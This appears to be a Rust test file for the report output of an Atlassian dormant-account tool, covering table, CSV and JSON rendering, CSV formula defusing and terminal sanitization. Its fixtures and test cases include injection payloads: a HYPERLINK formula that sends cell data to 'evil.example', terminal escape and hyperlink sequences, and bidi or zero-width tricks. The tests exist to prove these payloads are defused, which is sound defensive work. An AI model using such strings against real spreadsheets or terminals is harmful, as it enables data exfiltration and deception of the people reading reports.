//! The report seam: golden table/CSV/JSON output (lanes and reasons included) of a small org with
//! hostile and tricky values, the CSV formula defence, and terminal sanitization.

use chrono::{DateTime, TimeZone, Utc};
use dormant::directory::{
    AccountId, AccountStatus, AccountType, Activity, ClaimStatus, DataSource, Directory, DirectoryIndex,
    Exclusions, Group, GroupId, ManagementSource, MembershipStatus, Org, PlatformRole, Policy,
    ProductActivity, ProductKey, User, UserStatus,
};
use dormant::report::sanitize::{display_width, sanitize_for_terminal, truncate_to_width};
use dormant::report::{Format, defuse_formula, render_rows};
use proptest::prelude::*;
use std::borrow::Cow;
use std::sync::Arc;

fn at(year: i32, month: u32, day: u32) -> DateTime<Utc> {
    Utc.with_ymd_and_hms(year, month, day, 9, 30, 0)
        .single()
        .expect("valid date")
}

fn now() -> DateTime<Utc> {
    at(2026, 3, 10)
}

fn seen(product: &str, when: Option<DateTime<Utc>>) -> ProductActivity {
    ProductActivity {
        product: ProductKey::from(product),
        product_id: None,
        last_active: when,
    }
}

fn user(id: &str, name: &str, email: Option<&str>, activity: Activity, groups: &[&str]) -> User {
    User {
        account_id: AccountId::from(id),
        account_type: AccountType::Atlassian,
        name: name.to_owned(),
        nickname: None,
        email: email.map(str::to_owned),
        claim_status: ClaimStatus::Managed,
        management_source: Some(ManagementSource::Invited),
        status: UserStatus::Active,
        account_status: AccountStatus::Active,
        membership_status: MembershipStatus::Active,
        platform_roles: vec![],
        added_to_org: None,
        activity,
        groups: groups.iter().map(|id| GroupId::from(*id)).collect(),
        directories: vec![],
    }
}

fn group(id: &str, name: &str) -> Group {
    Group {
        id: GroupId::from(id),
        name: name.to_owned(),
        description: None,
        directory_id: None,
        external_synced: false,
        managed_by: None,
        user_count: None,
        grants: Vec::new(),
        modifiable: None,
    }
}

/// Ten users covering every lane, every activity state and the values that break naive renderers.
fn fixture() -> Directory {
    let mut admin = user(
        "712020:aaaa",
        "Ada Lovelace",
        Some("ada@example.com"),
        Activity::Known(vec![
            seen("jira", Some(at(2026, 3, 9))),
            seen("confluence", Some(at(2025, 11, 18))),
        ]),
        &["g-admins", "g-jira"],
    );
    admin.platform_roles = vec![PlatformRole::OrgAdmin, PlatformRole::SiteAdmin];
    admin.management_source = Some(ManagementSource::Synced);

    let mut hostile = user(
        "712020:bbbb",
        "\u{1b}[2J\u{1b}]0;pwned\u{7}Mallory\u{202e}nimda\u{200b}\u{0}\u{9b}31m",
        Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
        Activity::Known(vec![seen("jira", Some(at(2025, 12, 1)))]),
        &["g-evil"],
    );
    hostile.status = UserStatus::Other("quarantined".to_owned());

    let mut unmanaged = user(
        "557058:cccc",
        "O'Brien, \"Bob\"",
        None,
        Activity::Unknown,
        &["g-missing"],
    );
    unmanaged.claim_status = ClaimStatus::Unmanaged;
    unmanaged.management_source = None;

    Directory {
        org: Org {
            id: "org-1".to_owned(),
            name: "Acme".to_owned(),
        },
        directories: vec![],
        domains: vec![],
        sites: Vec::new(),
        groups: vec![
            group("g-admins", "site-admins"),
            group("g-jira", "jira-users"),
            group("g-evil", "@SUM(1+1)\u{1b}[31m red"),
        ],
        users: [
            admin,
            hostile,
            unmanaged,
            user(
                "712020:dddd",
                "山田太郎",
                Some("taro@example.jp"),
                Activity::Known(vec![seen("jira", None), seen("confluence", None)]),
                &["g-jira"],
            ),
            user(
                "712020:eeee",
                "Eve Empty",
                Some("eve@example.com"),
                Activity::Known(vec![]),
                &[],
            ),
            user(
                "712020:ffff",
                "🦀 Ferris the Crab with a Remarkably Long Display Name",
                Some("+ferris@example.com"),
                Activity::Known(vec![seen("confluence", Some(at(2026, 1, 2))), seen("jira", None)]),
                &[],
            ),
            user(
                "712020:gggg",
                "-Minus\tTab",
                Some("@at@example.com"),
                Activity::Known(vec![seen("loom", Some(at(2026, 3, 12)))]),
                &[],
            ),
        ]
        .into_iter()
        .chain(lane_users())
        .collect(),
        loaded_at: now(),
        source: DataSource::Api {
            base_url: "https://api.atlassian.com/".to_owned(),
        },
    }
}

/// Two cleanup-ready users (one synced from the identity provider) and a service account.
fn lane_users() -> [User; 3] {
    let mut idle_synced = user(
        "712020:hhhh",
        "Henry Idle",
        Some("henry@example.com"),
        Activity::Known(vec![
            seen("jira", Some(at(2025, 6, 1))),
            seen("confluence", Some(at(2025, 9, 1))),
        ]),
        &["g-jira"],
    );
    idle_synced.management_source = Some(ManagementSource::Synced);

    let mut never_active = user(
        "712020:iiii",
        "Ivy Never",
        Some("ivy@example.com"),
        Activity::Known(vec![seen("jira", None)]),
        &["g-jira"],
    );
    never_active.added_to_org = Some(at(2025, 1, 15));

    [
        idle_synced,
        never_active,
        user(
            "712020:jjjj",
            "Build Bot",
            Some("build-bot@serviceaccount.atlassian.com"),
            Activity::Known(vec![seen("jira", Some(at(2024, 2, 1)))]),
            &[],
        ),
    ]
}

fn index() -> DirectoryIndex {
    DirectoryIndex::build(
        Arc::new(fixture()),
        &Policy::default(),
        &Exclusions::default(),
        now(),
    )
}

/// Every user in directory order, so rows line up with the fixture.
fn rendered(format: Format) -> String {
    let index = index();
    let rows: Vec<u32> = (0..index.len() as u32).collect();
    let mut out = Vec::new();
    render_rows(&index, &rows, format, &mut out).expect("renders");
    String::from_utf8(out).expect("UTF-8")
}

#[test]
fn table_golden() {
    let table = rendered(Format::Table);
    insta::assert_snapshot!("table", table);
}

#[test]
fn csv_golden() {
    insta::assert_snapshot!("csv", rendered(Format::Csv));
}

#[test]
fn json_golden() {
    insta::assert_snapshot!("json", rendered(Format::Json));
}

#[test]
fn table_never_passes_terminal_controls_and_stays_aligned() {
    let table = rendered(Format::Table);
    for c in table.chars() {
        assert!(c == '\n' || !c.is_control(), "control {c:?} in table");
        assert!(
            !('\u{202a}'..='\u{202e}').contains(&c) && c != '\u{200b}',
            "{c:?} in table"
        );
    }
    // Every column starts at the same display column on every line, after the two-space gap.
    let lines: Vec<&str> = table.lines().collect();
    let header = lines[0];
    for title in [
        "NAME",
        "EMAIL",
        "LANE",
        "CLAIM",
        "SOURCE",
        "STATUS",
        "ROLES",
        "CONFLUENCE",
        "LAST ACTIVE",
        "GROUPS",
        "REASONS",
    ] {
        let start = display_width(&header[..header.find(title).expect(title)]);
        for line in &lines {
            let mut width = 0;
            let boundary = line.char_indices().find_map(|(index, c)| {
                let here = (width == start).then_some(index);
                width += display_width(c.encode_utf8(&mut [0; 4]));
                here
            });
            match boundary {
                Some(index) => assert!(line[..index].ends_with("  "), "{title} misaligned: {line}"),
                // Trailing empty cells are trimmed.
                None => assert!(
                    display_width(line) < start,
                    "no cell starts at column {start} ({title}): {line}"
                ),
            }
        }
    }
}

#[test]
fn csv_defuses_formulas_and_round_trips_values() {
    let csv_text = rendered(Format::Csv);
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let headers = reader.headers().expect("headers").clone();
    let column = |name: &str| headers.iter().position(|h| h == name).expect(name);
    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("record")).collect();
    assert_eq!(records.len(), 10);
    assert_eq!(
        &records[1][column("email")],
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    );
    // Terminal controls become U+FFFD (CSV is often printed to a terminal); tab/CR/LF stay data.
    assert_eq!(&records[1][column("groups")], "'@SUM(1+1)\u{fffd}[31m red");
    assert_eq!(&records[2][column("name")], "O'Brien, \"Bob\"");
    assert_eq!(&records[5][column("email")], "'+ferris@example.com");
    assert_eq!(&records[6][column("name")], "'-Minus\tTab");
    assert_eq!(&records[6][column("email")], "'@at@example.com");
    for record in &records {
        for cell in record {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "live formula: {cell:?}"
            );
        }
    }
    // Never active and unknown stay distinct, in the activity column; days idle is a number or
    // empty, never a word: the never active count from the day they were added.
    assert_eq!(&records[2][column("activity")], "unknown");
    assert_eq!(&records[2][column("days_idle")], "");
    assert_eq!(&records[3][column("activity")], "never");
    assert_eq!(&records[3][column("days_idle")], "", "date added unknown");
    assert_eq!(&records[3][column("last_active_jira")], "never");
    assert_eq!(&records[4][column("last_active_jira")], "", "no access");
    assert_eq!(&records[8][column("activity")], "never");
    assert_eq!(&records[8][column("days_idle")], "419", "added 419 days ago");
    assert_eq!(&records[8][column("added_to_org")], "2025-01-15T09:30:00Z");
    for record in &records {
        let days = &record[column("days_idle")];
        assert!(
            days.is_empty() || days.parse::<u64>().is_ok(),
            "days_idle {days:?} is neither a number nor empty"
        );
    }
}

#[test]
fn defuse_formula_only_touches_triggers() {
    for trigger in ["=1+1", "+1", "-1", "@x", "\tx", "\rx"] {
        assert_eq!(defuse_formula(trigger), format!("'{trigger}"));
    }
    assert!(matches!(defuse_formula("Ada = 1"), Cow::Borrowed("Ada = 1")));
    assert!(matches!(defuse_formula(""), Cow::Borrowed("")));
}

#[test]
fn json_keys_are_stable_and_states_distinct() {
    let text = rendered(Format::Json);
    let value: serde_json::Value = serde_json::from_str(&text).expect("valid JSON");
    let rows = value.as_array().expect("array");
    let keys = |row: &serde_json::Value| -> Vec<String> {
        row.as_object().expect("object").keys().cloned().collect()
    };
    for row in rows {
        assert_eq!(keys(row), keys(&rows[0]));
        assert_eq!(keys(&row["products"]), vec!["confluence", "jira", "loom"]);
    }
    assert_eq!(rows[0]["last_active"], "2026-03-09T09:30:00Z");
    assert_eq!(rows[0]["days_idle"], 1);
    assert_eq!(
        (rows[2]["activity"].as_str(), rows[2]["last_active"].is_null()),
        (Some("unknown"), true)
    );
    assert_eq!(
        (rows[3]["activity"].as_str(), rows[3]["days_idle"].is_null()),
        (Some("never"), true),
        "never active, date added unknown"
    );
    assert_eq!(
        (rows[8]["activity"].as_str(), rows[8]["days_idle"].as_u64()),
        (Some("never"), Some(419)),
        "never active: days since added"
    );
    assert_eq!(rows[8]["added_to_org"], "2025-01-15T09:30:00Z");
    assert!(rows[3]["added_to_org"].is_null());
    assert_eq!(rows[4]["products"]["jira"]["activity"], "no_access");
    assert_eq!(
        rows[6]["days_idle"], 0,
        "future activity (clock skew) is 0 days idle"
    );
}

#[test]
fn selected_users_keep_every_product_column() {
    let index = index();
    let mut out = Vec::new();
    render_rows(&index, &[6], Format::Csv, &mut out).expect("renders");
    let text = String::from_utf8(out).expect("UTF-8");
    assert!(text.starts_with("account_id,name,email,lane,claim_status,management_source,status,roles,last_active_confluence,last_active_jira,last_active_loom,"), "{text}");
    assert_eq!(text.lines().count(), 2);
    let mut out = Vec::new();
    render_rows(&index, &[], Format::Json, &mut out).expect("renders");
    assert_eq!(out, b"[]\n");
}

#[test]
fn format_parses_from_the_command_line() {
    assert_eq!("CSV".parse::<Format>(), Ok(Format::Csv));
    assert_eq!("json".parse::<Format>(), Ok(Format::Json));
    let error = "yaml".parse::<Format>().expect_err("unknown");
    assert!(error.to_string().contains("table, csv or json"), "{error}");
}

#[test]
fn sanitize_strips_escape_sequences() {
    let cases = [
        ("plain", "plain"),
        ("a\u{1b}[31mred\u{1b}[0m", "ared"),
        ("a\u{1b}[?1049hb", "ab"),
        ("x\u{1b}]0;title\u{7}y", "xy"),
        ("\u{1b}]8;;http://evil\u{1b}\\link\u{1b}]8;;\u{1b}\\", "link"),
        ("a\u{1b}cb", "ab"),
        ("a\u{1b}(Bb", "ab"),
        ("a\u{1b}Pq#0;2;0;0;0\u{1b}\\b", "ab"),
        ("a\u{9b}2Jb", "ab"),
        ("a\u{9d}0;t\u{9c}z", "az"),
        ("unterminated\u{1b}]0;eats the rest", "unterminated"),
        ("lone escape at end\u{1b}", "lone escape at end"),
    ];
    for (input, expected) in cases {
        assert_eq!(sanitize_for_terminal(input), expected, "{input:?}");
    }
}

#[test]
fn sanitize_replaces_controls_and_drops_invisible_characters() {
    assert_eq!(
        sanitize_for_terminal("a\0b\u{7f}c\u{85}d\u{8e}e"),
        "a\u{fffd}b\u{fffd}c d\u{fffd}e"
    );
    assert_eq!(
        sanitize_for_terminal("tab\there\nnew\rline\u{2028}x"),
        "tab here new line x"
    );
    assert_eq!(
        sanitize_for_terminal("\u{202e}nimda\u{202c} \u{2066}x\u{2069}"),
        "nimda x"
    );
    assert_eq!(
        sanitize_for_terminal("ad\u{200b}m\u{200d}i\u{2060}n\u{feff}\u{ad}"),
        "admin"
    );
    assert_eq!(
        sanitize_for_terminal("ok\u{e0041}\u{e0042}\u{e007f}"),
        "ok",
        "tag characters smuggle text"
    );
    assert!(matches!(sanitize_for_terminal("山田 🦀 Zoë"), Cow::Borrowed(_)));
}

#[test]
fn widths_and_truncation_count_terminal_columns() {
    assert_eq!(display_width("山田太郎"), 8);
    assert_eq!(display_width("🦀🦀"), 4);
    assert_eq!(display_width("Zoë"), 3);
    assert_eq!(display_width("e\u{301}"), 1);
    assert_eq!(truncate_to_width("山田太郎", 8), "山田太郎");
    assert_eq!(truncate_to_width("山田太郎", 7), "山田太…");
    assert_eq!(truncate_to_width("山田太郎", 6), "山田…");
    assert_eq!(truncate_to_width("🦀🦀🦀", 4), "🦀…");
    assert_eq!(truncate_to_width("abcdef", 4), "abc…");
    assert_eq!(truncate_to_width("abcdef", 1), "…");
    assert_eq!(truncate_to_width("abcdef", 0), "");
    assert!(matches!(truncate_to_width("short", 10), Cow::Borrowed("short")));
}

proptest! {
    #[test]
    fn sanitized_text_is_inert(text in "(\\PC|\\p{Cc}|\u{1b}\\[[0-9;]{0,4}[A-Za-z]|[\u{202a}-\u{202e}\u{200b}-\u{200f}\u{2066}-\u{2069}]){0,40}") {
        let clean = sanitize_for_terminal(&text);
        for c in clean.chars() {
            prop_assert!(!c.is_control(), "{c:?} survived in {clean:?}");
            let invisible = matches!(c, '\u{202a}'..='\u{202e}' | '\u{200b}'..='\u{200f}' | '\u{2066}'..='\u{2069}');
            prop_assert!(!invisible, "bidi or zero-width {:?} survived", c);
        }
        prop_assert_eq!(sanitize_for_terminal(&clean), clean.clone(), "idempotent");
    }

    #[test]
    fn truncation_fits_and_marks_cuts(text in "\\PC{0,30}", max in 0usize..20) {
        let clean = sanitize_for_terminal(&text);
        let cut = truncate_to_width(&clean, max);
        prop_assert!(display_width(&cut) <= max, "{cut:?} wider than {max}");
        if cut != clean && max > 0 {
            prop_assert!(cut.ends_with('…'));
            prop_assert!(clean.starts_with(cut.trim_end_matches('…')));
        }
    }
}
